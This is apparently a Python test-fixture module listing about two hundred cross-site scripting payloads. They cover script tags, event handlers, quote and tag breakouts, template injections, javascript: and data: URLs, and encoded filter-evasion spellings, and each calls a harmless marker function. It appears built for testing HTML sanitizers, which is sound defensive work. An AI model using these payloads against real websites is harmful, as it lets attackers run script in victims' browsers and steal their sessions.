"""Texts that are programs where somebody forgets that they are texts. Each calls `__x()` when it runs."""

from itertools import chain
from typing import Final

# Elements that run something by themselves: as soon as they are parsed, loaded, failed, focused or toggled.
_ELEMENTS: Final = (
    "<script>__x()</script>",
    "<SCRIPT>__x()</SCRIPT>",
    "<script/x>__x()</script>",
    "<script\n>__x()</script\n>",
    "<scr<script>ipt>__x()</scr</script>ipt>",
    "<script src=data:text/javascript,__x()></script>",
    "<script type=module>__x()</script>",
    "<script>/*<!--*/__x()//--></script>",
    "<<script>__x()//<</script>",
    "<img src=x onerror=__x()>",
    "<img src=x onerror='__x()'>",
    '<img src=x onerror="__x()">',
    "<img/src=x/onerror=__x()>",
    "<img\tsrc=x\tonerror=__x()>",
    "<img src=x:x onerror\n=\n__x()>",
    "<IMG SRC=x OnErRoR=__x()>",
    "<img src=x onerror=&#95;&#95;x()>",
    "<img src=x onerror=&#x5f;&#x5f;x&lpar;&rpar;>",
    "<img src=x onerror=window['__x']()>",
    "<img src=x onerror=__x``>",
    "<img src=x onerror=__x() //",
    "<img srcset=x onerror=__x()>",
    "<image src=x onerror=__x()>",
    "<svg onload=__x()>",
    "<svg/onload=__x()>",
    "<svg><script>__x()</script></svg>",
    "<svg><script href=data:,__x() /></svg>",
    "<svg><animate onbegin=__x() attributeName=x dur=1s>",
    "<svg><set onbegin=__x() attributeName=x>",
    "<svg><a xlink:href=javascript:__x()><text y=20>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=__x()>#x'/>",
    "<svg><foreignObject><img src=x onerror=__x()></foreignObject></svg>",
    "<svg><style><img src=x onerror=__x()></style></svg>",
    "<math><mtext><img src=x onerror=__x()></mtext></math>",
    "<math><mglyph><style><img src=x onerror=__x()>",
    "<math href=javascript:__x()>x</math>",
    "<body onload=__x()>",
    "<body onpageshow=__x()>",
    "<iframe onload=__x()></iframe>",
    "<iframe src=javascript:parent.__x()></iframe>",
    "<iframe srcdoc='<script>parent.__x()</script>'></iframe>",
    "<iframe src='data:text/html,<script>parent.__x()</script>'></iframe>",
    "<object data=javascript:__x()></object>",
    "<object data=x onerror=__x()></object>",
    "<embed src=javascript:__x()>",
    "<video src=x onerror=__x()></video>",
    "<video><source src=x onerror=__x()></video>",
    "<audio src=x onerror=__x()></audio>",
    "<details open ontoggle=__x()>x</details>",
    "<input autofocus onfocus=__x()>",
    "<textarea autofocus onfocus=__x()>",
    "<select autofocus onfocus=__x()>",
    "<button autofocus onfocus=__x()>x",
    "<a href=# autofocus onfocus=__x() tabindex=1>x</a>",
    "<div contenteditable autofocus onfocus=__x()>x",
    "<marquee onstart=__x()>x</marquee>",
    "<link rel=stylesheet href=x onerror=__x()>",
    "<link rel=preload as=script href=x onerror=__x()>",
    "<meta http-equiv=refresh content='0;url=javascript:__x()'>",
    "<base href='javascript:__x()//'>",
    "<style>@import 'javascript:__x()';</style>",
    "<style onload=__x()>x{}</style>",
    "<style>x{animation-name:x}@keyframes x{}</style><x style=animation-name:x onanimationstart=__x()>",
    "<div style='background:url(javascript:__x())'>x",
    "<div style='width:expression(__x())'>x",
    "<div onpointerenter=__x() style=position:fixed;inset:0>x",
    "<div onmouseover=__x() style=position:fixed;inset:0>x",
    "<form action=javascript:__x()><input type=submit autofocus>",
    "<form><button formaction=javascript:__x()>x</button></form>",
    "<isindex type=image src=x onerror=__x()>",
    "<table background=javascript:__x()><tr><td>x",
    "<template><img src=x onerror=__x()></template>",
    "<noscript><p title='</noscript><img src=x onerror=__x()>'>",
    "<x-y onclick=__x() autofocus tabindex=1 onfocus=__x()>x",
    "<dialog open onclose=__x()>x",
    "<frameset onload=__x()>",
    "<!--><img src=x onerror=__x()>-->",
    "<![CDATA[<img src=x onerror=__x()>]]>",
    "<?xml version='1.0'?><svg onload=__x()>",
    "<xmp><img src=x onerror=__x()></xmp>",
    "<plaintext onfocus=__x() autofocus>",
    "<applet code=x onerror=__x()>",
)
# Ends what it may stand in, then runs.
_ENDS: Final = (
    "'", '"', "`", "\\'", '\\"', "'>", '">', "'/>", '"/>', "-->", "]]>", "*/", "//", "</title>", "</textarea>",
    "</style>", "</script>", "</option></select>", "</noscript>", "</template>", "</svg>", "}", "});", "\\u0022>",
)  # fmt: skip
_BREAKOUTS: Final = tuple(f"{end}<img src=x onerror=__x()>" for end in _ENDS) + tuple(
    f"{quote} {handler}=__x() {quote}"
    for quote in ("'", '"', "`")
    for handler in ("autofocus onfocus", "onmouseover", "onerror", "onload", "style=x onanimationend")
)
# Meant for what expands templates, expressions or marked-up text.
_TEMPLATES: Final = (
    "{{__x()}}",
    "{{constructor.constructor('__x()')()}}",
    "{{$on.constructor('__x()')()}}",
    "${__x()}",
    "${{__x()}}",
    "#{__x()}",
    "<%= __x() %>",
    "<% __x() %>",
    "[[__x()]]",
    "{%raw%}<script>__x()</script>{%endraw%}",
    "{{=<% %>=}}<script>__x()</script>",
    "[x](javascript:__x())",
    '![x](x"onerror="__x())',
    "<javascript:__x()>",
    '$t(x, {"x": "<img src=x onerror=__x()>"})',
    "{{name, uppercase}}<img src=x onerror=__x()>",
    "$nest(<img src=x onerror=__x()>)",
    "@{__x()}",
    "*{__x()}",
    '=HYPERLINK("javascript:__x()")',
)
# Meant for addresses.
_ADDRESSES: Final = (
    "javascript:__x()",
    "JaVaScRiPt:__x()",
    " javascript:__x()",
    "java\tscript:__x()",
    "java\nscript:__x()",
    "javascript://x%0a__x()",
    "javascript:/*x*/__x()",
    "&#106;avascript:__x()",
    "&#x6A;avascript&colon;__x()",
    "\x01javascript:__x()",
    "vbscript:__x()",
    "data:text/html,<script>__x()</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3goKTwvc2NyaXB0Pg==",
    "//x.invalid/x.js",
    "feed:javascript:__x()",
    "view-source:javascript:__x()",
    "blob:javascript:__x()",
)
# Spellings that some reader straightens out.
_SPELLINGS: Final = (
    "&lt;img src=x onerror=__x()&gt;",
    "&amp;lt;script&amp;gt;__x()&amp;lt;/script&amp;gt;",
    "%3Cimg%20src=x%20onerror=__x()%3E",
    "\\u003cimg src=x onerror=__x()\\u003e",
    "\\x3cscript\\x3e__x()\\x3c/script\\x3e",
    "＜img src=x onerror=__x()＞",
    "\u02c2script\u02c3__x()\u02c2/script\u02c3",
    "\u202e<script>__x()</script>",
    "<img src=x onerror=\u2028__x()>",
    "<\u017fcript>__x()</\u017fcript>",
    "+ADw-script+AD4-__x()+ADw-/script+AD4-",
)
PAYLOADS: Final = tuple(dict.fromkeys(chain(_ELEMENTS, _BREAKOUTS, _TEMPLATES, _ADDRESSES, _SPELLINGS)))


def packed(size: int, payloads: tuple[str, ...] = PAYLOADS) -> list[str]:
    """All of them, as many to a text as fit into `size` characters."""
    texts: list[str] = []
    for payload in payloads:
        if texts and len(texts[-1]) + len(payload) + 1 <= size:
            texts[-1] += f" {payload}"
        else:
            texts.append(payload)
    return texts
